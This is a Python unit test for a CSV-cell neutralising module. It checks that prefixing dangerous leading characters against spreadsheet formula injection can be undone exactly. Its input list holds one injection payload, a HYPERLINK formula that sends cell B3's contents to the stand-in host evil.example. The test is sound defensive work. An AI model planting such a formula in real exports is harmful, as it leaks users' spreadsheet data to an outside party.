"""mailer.store.csv_cells on its own: OWASP's quote, added and taken off exactly."""

from __future__ import annotations

from mailer.store.csv_cells import neutralise, restore

TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"Click me")',
    "+1 555",
    "-1",
    "@SUM(A1)",
    "\tTAB",
    "\r=CR",
    "'=typed",
    "''+two",
    "'t Hooft",
    "O'Brien",
    "a=b",
    "'",
    "''",
    "=",
    "'=",
    "''t",
    "",
]


def test_neutralise_and_restore_are_inverse() -> None:
    for text in TEXTS:
        assert restore(neutralise(text)) == text, text
        assert neutralise(text)[:1] not in "=+-@\t\r" or text == ""
